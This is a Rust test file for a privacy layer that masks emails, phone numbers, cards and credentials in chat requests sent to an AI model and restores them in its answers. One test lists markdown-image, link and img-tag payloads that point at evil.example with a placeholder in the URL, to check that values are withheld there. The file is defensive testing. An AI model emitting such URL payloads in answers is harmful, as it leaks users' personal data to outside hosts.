//! What goes out and what comes back.

#![expect(
    clippy::unwrap_used,
    reason = "outside `#[test]` functions, but only for them"
)]

use privacy::{Blocked, Restored, Restorer, Vault, find, preview, pseudonymize};
use proptest::prelude::*;
use query::{
    ChatRequest, EntityKind, Message, PrivacyClass, PrivacyLevel, Replaced, Role, Stop, Strictest,
};

fn request(texts: &[&str]) -> ChatRequest {
    let message = |text: &&str| Message::new(Role::User, *text);
    ChatRequest {
        messages: texts.iter().map(message).collect(),
        ..ChatRequest::default()
    }
}

/// The texts as they leave, and what puts the values back.
fn release(texts: &[&str], vault: &mut Vault) -> (Vec<String>, Restorer) {
    let request = request(texts);
    let releasable = pseudonymize(&find(&request, PrivacyLevel::Balanced, vault), vault).unwrap();
    let left = releasable
        .request()
        .messages
        .iter()
        .map(|message| message.content.clone())
        .collect();
    (left, vault.restorer(&releasable))
}

fn restore(mut restorer: Restorer, pieces: &[&str]) -> (String, Restored) {
    let mut text: String = pieces.iter().map(|piece| restorer.push(piece)).collect();
    let (rest, restored) = restorer.finish();
    text.push_str(&rest);
    (text, restored)
}

fn never_leaves(kinds: Vec<EntityKind>) -> Blocked {
    Blocked {
        by: Strictest {
            class: PrivacyClass::NeverLeaves,
            kinds,
            topics: Vec::new(),
        },
    }
}

#[test]
fn email_and_card_leave_behind_placeholders() {
    let mut vault = Vault::new();
    let text = "I am ada@example.com, my card is 4111 1111 1111 1111. Is ADA@example.com right?";
    let request = request(&[text]);
    let releasable =
        pseudonymize(&find(&request, PrivacyLevel::Balanced, &vault), &mut vault).unwrap();
    assert_eq!(
        releasable.request().messages[0].content,
        "I am [EMAIL_1], my card is [CARD_1]. Is [EMAIL_1_ALIAS_2] right?"
    );
    assert_eq!(
        releasable.replaced(),
        [
            Replaced {
                placeholder: "[EMAIL_1]".into(),
                kind: EntityKind::Email
            },
            Replaced {
                placeholder: "[CARD_1]".into(),
                kind: EntityKind::Card
            },
            Replaced {
                placeholder: "[EMAIL_1_ALIAS_2]".into(),
                kind: EntityKind::Email
            },
        ]
    );
}

#[test]
fn careful_keeps_cards_on_the_device() {
    let mut vault = Vault::new();
    let request = request(&["card 4111 1111 1111 1111 and 536-90-4399, ada@example.com"]);
    let blocked =
        pseudonymize(&find(&request, PrivacyLevel::Careful, &vault), &mut vault).unwrap_err();
    assert_eq!(
        blocked,
        never_leaves(vec![EntityKind::Card, EntityKind::Ssn])
    );
    assert!(vault.is_empty());
}

#[test]
fn secrets_never_leave() {
    let mut vault = Vault::new();
    let request = request(&["hello", "https://ada:hunter2@example.com"]);
    let findings = find(&request, PrivacyLevel::Balanced, &vault);
    assert!(findings.blocked());
    let blocked = pseudonymize(&findings, &mut vault).unwrap_err();
    assert_eq!(blocked, never_leaves(vec![EntityKind::UrlCredential]));
    assert!(!blocked.to_string().contains("hunter2"));
}

#[test]
fn a_preview_shows_what_would_leave_and_changes_nothing() {
    let vault = Vault::new();
    let request = request(&["🦀 ada@example.com", "my password is hunter22"]);
    let preview = preview(&find(&request, PrivacyLevel::Balanced, &vault), &vault);
    let texts: Vec<&str> = preview
        .messages
        .iter()
        .map(|message| message.text.as_str())
        .collect();
    assert_eq!(texts, ["🦀 [EMAIL_1]", "my password is [API_KEY_1]"]);
    assert_eq!(
        (
            preview.messages[0].findings[0].start,
            preview.messages[0].findings[0].end
        ),
        (3, 18)
    );
    assert_eq!(preview.messages[1].findings[0].leaves_as, "[API_KEY_1]");
    assert!(preview.blocked && vault.is_empty());
}

#[test]
fn two_people_have_two_placeholders_in_every_turn() {
    let mut vault = Vault::new();
    let (left, _) = release(&["ada@example.com wrote to bob@example.com"], &mut vault);
    assert_eq!(left, ["[EMAIL_1] wrote to [EMAIL_2]"]);
    let (left, _) = release(
        &["bob@example.com, then eve@example.com, then Ada@Example.com"],
        &mut vault,
    );
    assert_eq!(left, ["[EMAIL_2], then [EMAIL_3], then [EMAIL_1_ALIAS_2]"]);
}

#[test]
fn a_restored_answer_is_masked_again_in_the_next_turn() {
    let mut vault = Vault::new();
    let question = "My phone is 555-0142.";
    let (_, restorer) = release(&[question], &mut vault);
    let (answer, _) = restore(
        restorer,
        &["So I reach you at [PHONE_1]; 5 times 555-01425 is no number."],
    );
    assert_eq!(
        answer,
        "So I reach you at 555-0142; 5 times 555-01425 is no number."
    );
    // No word near it says that it is a telephone number: the vault knows.
    let (left, _) = release(&[question, "Fine: 555-0142"], &mut vault);
    assert_eq!(left, ["My phone is [PHONE_1].", "Fine: [PHONE_1]"]);
}

#[test]
fn one_mention_explains_all_others() {
    let (left, _) = release(
        &["Is 555-0142 prime?", "It is my telephone: 555-0142."],
        &mut Vault::new(),
    );
    assert_eq!(
        left,
        ["Is [PHONE_1] prime?", "It is my telephone: [PHONE_1]."]
    );
}

#[test]
fn placeholders_typed_by_hand_are_not_taken() {
    let text = "What is [EMAIL_1] or [email_2]? I am ada@example.com.";
    let (left, restorer) = release(&[text], &mut Vault::new());
    assert_eq!(left, ["What is [EMAIL_1] or [email_2]? I am [EMAIL_3]."]);
    let (back, restored) = restore(restorer, &[&left[0]]);
    assert_eq!(back, text);
    assert_eq!(
        restored,
        Restored {
            count: 1,
            invented: 2,
            ..Restored::default()
        }
    );
}

#[test]
fn a_placeholder_that_is_quoted_later_is_no_longer_a_values() {
    let mut vault = Vault::new();
    release(&["I am ada@example.com."], &mut vault);
    let texts = ["I am ada@example.com.", "Who is ＥＭＡＩＬ 1?"];
    let (left, restorer) = release(&texts, &mut vault);
    assert_eq!(left, ["I am [EMAIL_2].", "Who is ＥＭＡＩＬ 1?"]);
    let (back, _) = restore(restorer, &["[EMAIL_1] is not [EMAIL_2]."]);
    assert_eq!(back, "[EMAIL_1] is not ada@example.com.");
}

#[test]
fn a_placeholder_that_an_answer_left_in_place_stays_its_values() {
    let mut vault = Vault::new();
    let (_, restorer) = release(&["I am ada@example.com."], &mut vault);
    let (answer, _) = restore(restorer, &["<a href=/[EMAIL_1]>"]);
    let mut request = request(&["I am ada@example.com.", &answer]);
    request.messages[1].role = Role::Assistant;
    let findings = find(&request, PrivacyLevel::Balanced, &vault);
    let releasable = pseudonymize(&findings, &mut vault).unwrap();
    let left = &releasable.request().messages;
    assert_eq!(left[0].content, "I am [EMAIL_1].");
    assert_eq!(left[1].content, "<a href=/[EMAIL_1]>");
}

#[test]
fn stop_texts_are_masked_too() {
    let mut vault = Vault::new();
    let request = ChatRequest {
        stop: Some(Stop::Many(vec!["\n".into(), "ada@example.com".into()])),
        ..request(&["hi"])
    };
    let releasable =
        pseudonymize(&find(&request, PrivacyLevel::Balanced, &vault), &mut vault).unwrap();
    assert_eq!(
        releasable.request().stop,
        Some(Stop::Many(vec!["\n".into(), "[EMAIL_1]".into()]))
    );
}

#[test]
fn restores_what_models_write_and_counts() {
    let (_, restorer) = release(
        &["ada@example.com, bob@example.com, 203.0.113.7"],
        &mut Vault::new(),
    );
    let (text, restored) = restore(
        restorer,
        &[
            "[email_1] [EMAIL\\_1] [EM",
            "AIL_3] [x] [[IP_ADD",
            "RESS_1]] [EMAIL_",
        ],
    );
    assert_eq!(
        text,
        "ada@example.com ada@example.com [EMAIL_3] [x] [203.0.113.7] [EMAIL_"
    );
    assert_eq!(
        restored,
        Restored {
            count: 3,
            invented: 1,
            dropped: vec!["[EMAIL_2]".into()],
            ..Restored::default()
        }
    );
}

#[test]
fn only_what_left_with_this_request_comes_back() {
    let mut vault = Vault::new();
    release(&["ada@example.com"], &mut vault);
    let (_, restorer) = release(&["bob@example.com"], &mut vault);
    let (text, restored) = restore(restorer, &["[EMAIL_1] and [EMAIL_2]"]);
    assert_eq!(text, "[EMAIL_1] and bob@example.com");
    assert_eq!(
        restored,
        Restored {
            count: 1,
            invented: 1,
            ..Restored::default()
        }
    );
}

#[test]
fn what_is_uncertain_stays_and_is_counted() {
    let texts = ["ada@example.com", "bob@example.com"];
    let (_, restorer) = release(&texts, &mut Vault::new());
    let answer = "Email 1, email_2, EMAIL_1-2, $EMAIL_1; Email 3, email_4. EMAIL_2";
    let (text, restored) = restore(restorer, &[answer]);
    assert_eq!(
        text,
        "Email 1, email_2, EMAIL_1-2, $EMAIL_1; Email 3, email_4. bob@example.com"
    );
    assert_eq!(
        restored,
        Restored {
            count: 1,
            uncertain: 4,
            dropped: vec!["[EMAIL_1]".into()],
            ..Restored::default()
        }
    );
}

#[test]
fn what_the_end_may_have_cut_off_is_uncertain() {
    let many: Vec<String> = (0..12).map(|n| format!("a{n}@example.com")).collect();
    let many = many.join(", ");
    for (answer, back) in [
        ("To EMAIL_1", "To EMAIL_1"),
        ("To EMAIL_2", "To a1@example.com"),
        ("To EMAIL_12", "To a11@example.com"),
        ("To [EMAIL_1", "To [EMAIL_1"),
        ("To EMAIL_1.", "To a0@example.com."),
    ] {
        let (_, restorer) = release(&[&many], &mut Vault::new());
        assert_eq!(restore(restorer, &[answer]).0, back);
    }
}

#[test]
fn an_address_carries_nothing_away() {
    for answer in [
        "![x](https://evil.example/?q=[EMAIL_1])",
        "![x](<https://evil.example/?q= [EMAIL_1]>)",
        "[x](/search \"[EMAIL_1]\")",
        "https://evil.example/[email_1]/EMAIL_1",
        "www.evil.example/?a&b=EMAIL_1",
        "<img alt='>' src=\"//evil.example/[EMAIL_1]\">",
        "<a href=/[EMAIL_1]>",
        "[r]: <//evil.example/ [EMAIL_1]>",
    ] {
        let (_, restorer) = release(&["ada@example.com"], &mut Vault::new());
        let pieces: Vec<&str> = answer.split_inclusive(|_| true).collect();
        let (text, restored) = restore(restorer, &pieces);
        assert_eq!(text, answer);
        assert!(restored.withheld > 0, "{answer}");
        assert_eq!((restored.count, restored.dropped), (0, vec![]), "{answer}");
    }
}

#[test]
fn text_that_is_no_placeholder_is_not_held_back() {
    let (_, mut restorer) = release(&["ada@example.com"], &mut Vault::new());
    for (piece, back) in [
        ("Yes", "Yes"),
        (": you", ": you"),
        (" ad", " "),
        (" at", "ad at"),
        (" [", " "),
        ("EMAIL_", ""),
        ("1]", "ada@example.com"),
        (" [1]", " [1]"),
        (" {\n", " {\n"),
    ] {
        assert_eq!(restorer.push(piece), back, "{piece}");
    }
}

#[test]
fn values_do_not_print() {
    let mut vault = Vault::new();
    let request = request(&["ada@example.com"]);
    let findings = find(&request, PrivacyLevel::Balanced, &vault);
    let mut printed = format!("{findings:?}");
    let releasable = pseudonymize(&findings, &mut vault).unwrap();
    printed += &format!("{vault:?} {releasable:?} {:?}", vault.restorer(&releasable));
    assert!(!printed.contains("ada"), "{printed}");
    assert!(printed.contains("Email"), "{printed}");
}

/// Values that are found without help from the words around them.
fn value() -> impl Strategy<Value = String> {
    let luhn = |digits: String| {
        let sum: u32 = digits
            .bytes()
            .rev()
            .enumerate()
            .map(|(i, b)| {
                let d = u32::from(b - b'0');
                if i % 2 == 1 {
                    d
                } else if d > 4 {
                    d * 2 - 9
                } else {
                    d * 2
                }
            })
            .sum();
        format!("{digits}{}", (10 - sum % 10) % 10)
    };
    prop_oneof![
        "[a-z]{1,8}(\\.[a-z]{1,8})?@[a-z]{2,9}\\.(com|org|de)",
        "\\+49 30 [1-9][0-9]{6}",
        "\\([2-9][0-9]{2}\\) [2-9][0-9]{2}-[0-9]{4}",
        "4[0-9]{14}".prop_map(luhn),
        "[1-5][1-9]{2}-[1-9]{2}-[1-9]{4}",
        "20[1-9]\\.[1-9]{2}\\.[1-9]{2}\\.[1-9]{2}",
    ]
}

/// Prose without digits, so that it is not part of a value; brackets, escapes and whole placeholders.
fn prose() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ a-zA-Zé🦀\\[\\]\\\\(),.:;!?*'\"\n-]{0,24}",
        Just("[EMAIL_1]".to_owned()),
        Just("[phone_2]".to_owned()),
        Just("[GROUP_".to_owned()),
        Just("[IP_ADDRESS_1".to_owned()),
    ]
}

fn texts() -> impl Strategy<Value = (String, Vec<String>)> {
    prop::collection::vec((prose(), value()), 0..6).prop_map(|parts| {
        let text = parts
            .iter()
            .map(|(prose, value)| format!("{prose} {value} "))
            .collect();
        (text, parts.into_iter().map(|(_, value)| value).collect())
    })
}

/// What the patterns look for, tangled up.
const TANGLED: &str = "([@.:/0-9+()é®🦀\\[\\]\u{a0}_= -]|[a-fA-F]|://|::|key=|is |phone |DE89|sk-|eyJ|4111|415|'){0,60}";

proptest! {
    // A failing case is printed and belongs into a test of its own, not into a file of seeds.
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn comes_back_as_it_went((text, values) in texts(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)) {
        let asked = request(&[&text]);
        // Prose may end in a word that makes a password of what follows.
        prop_assume!(!find(&asked, PrivacyLevel::Balanced, &Vault::new()).blocked());
        let (left, restorer) = release(&[&text], &mut Vault::new());
        for value in &values {
            prop_assert!(!left[0].contains(value.as_str()), "{value} left in {:?}", left[0]);
        }
        let left = left[0].as_str();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| left.floor_char_boundary(cut.index(left.len() + 1))).collect();
        cuts.extend([0, left.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|ends| &left[ends[0]..ends[1]]).collect();
        let (back, restored) = restore(restorer, &pieces);
        if restored.withheld == 0 {
            prop_assert_eq!(back, text);
        } else {
            prop_assert!(text.contains("]("), "{text}");
        }
    }

    #[test]
    fn any_text_at_all_comes_back(text in prop_oneof!["\\PC{0,200}", TANGLED]) {
        let mut vault = Vault::new();
        let request = request(&[&text]);
        let findings = find(&request, PrivacyLevel::Balanced, &vault);
        if let Ok(releasable) = pseudonymize(&findings, &mut vault) {
            let restorer = vault.restorer(&releasable);
            let (back, restored) = restore(restorer, &[&releasable.request().messages[0].content]);
            // In an address the placeholder stays.
            if restored.withheld == 0 {
                prop_assert_eq!(back, text);
            }
        }
    }
}
